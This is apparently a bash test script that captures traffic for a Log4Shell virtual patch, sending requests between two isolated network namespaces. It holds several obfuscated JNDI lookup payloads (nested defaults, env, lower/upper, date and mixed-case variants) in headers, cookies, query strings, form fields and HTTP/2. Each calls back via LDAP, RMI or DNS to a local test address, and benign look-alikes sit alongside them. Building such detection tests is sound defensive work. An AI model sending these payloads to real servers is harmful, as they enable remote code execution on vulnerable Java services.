#!/usr/bin/env bash
# Captures the log4shell virtual patch's test traffic (attacks and benign look-alikes) from real clients.
# Clients (curl, nmap, python3) run in namespace tsv-web1-l4j-c (198.18.3.11); rules/packs/traffic/
# http-ok.py answers every request with 200 in tsv-web1-l4j-s (198.18.3.12); each scenario's
# client-side traffic becomes $OUT/NAME.pcap (OUT defaults to this folder). Run as root; the plumbing
# is rules/packs/traffic/netns.sh (198.18.0.0/15 only, nothing leaves the two namespaces).
. "$(dirname "$0")/../../../traffic/netns.sh"
OUT="${OUT:-$TSV_HERE}"
tsv_pair tsv-web1-l4j-c 198.18.3.11/25 tsv-web1-l4j-s 198.18.3.12/25
tsv_serve python3 "$TSV_LIB/http-ok.py" 80
# An h2c (HTTP/2 prior knowledge) server on 8080: node's http2 module, answering 200 to every stream.
tsv_serve node -e '
require("http2").createServer((req, res) => { req.resume(); req.on("end", () => res.end("ok\n")); }).listen(8080, "0.0.0.0");
'
tsv_wait_port 80; tsv_wait_port 8080
TSV_FILTER="tcp port 80 or tcp port 8080"
U="http://$TSV_SIP"

# Attacks: the lookup in a header (nested ${::-x} defaults), in User-Agent (${env:X:-x} defaults), in
# the query (percent-encoded, ${lower:}/${upper:}), in a form field (${date:'x'}), in a cookie (mixed case).
tsv_scenario attack-header-nested curl -s "$U/api/v1/status" -H 'X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:ldap://198.18.3.11:1389/Exploit}'
tsv_scenario attack-ua-env curl -s "$U/" -A '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//198.18.3.11:1389/a}'
tsv_scenario attack-uri-encoded curl -s --path-as-is "$U/search?q=%24%7B%24%7Blower%3Aj%7D%24%7Bupper%3An%7Ddi%3Aldap%3A%2F%2F198.18.3.11%2Fa%7D"
tsv_scenario attack-body-date curl -s "$U/login" --data-urlencode "user=\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:rmi://198.18.3.11/a}" --data-urlencode "password=hunter2"
tsv_scenario attack-cookie curl -s "$U/account" -b 'JSESSIONID=${JnDi:dns://198.18.3.11/a}'
# The same header over HTTP/2 (h2c prior knowledge, HPACK-coded), ${upper:} and ${::-} mixed.
tsv_scenario attack-h2-header curl -s --http2-prior-knowledge "http://$TSV_SIP:8080/api" -H 'X-Forwarded-For: ${${upper:j}${::-n}di:ldap://198.18.3.11/a}'
tsv_scenario benign-h2 curl -s --http2-prior-knowledge "http://$TSV_SIP:8080/docs/jndi" -H 'X-Template: ${HOME}'
# Benign: a blog post about JNDI (and a shell variable) in a form, a search for "jndi", ${HOME} in a header.
tsv_scenario benign-jndi-text curl -s "$U/blog/post" --data-urlencode 'title=What is JNDI?' --data-urlencode 'body=JNDI (Java Naming and Directory Interface) resolves names such as jndi:ldap/people. In your shell, echo ${HOME} and ${PATH:-/usr/bin}; see $JNDI_HOME/docs.'
tsv_scenario benign-search curl -s "$U/search?q=jndi+lookup+%24%7BHOME%7D" -H 'X-Template: ${HOME}/templates/${user.name}'
